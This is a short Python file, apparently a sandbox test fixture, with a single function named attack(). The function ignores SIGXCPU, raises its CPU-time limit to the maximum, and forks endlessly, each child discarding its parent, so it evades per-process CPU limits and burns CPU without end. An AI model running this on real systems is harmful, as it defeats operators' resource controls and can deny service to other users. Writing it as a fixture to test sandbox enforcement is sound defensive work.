import os
import resource
import signal


def attack():
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_CPU, (resource.getrlimit(resource.RLIMIT_CPU)[1],) * 2)
    while True:
        if os.fork():
            os._exit(0)
        for _ in range(100_000):
            pass
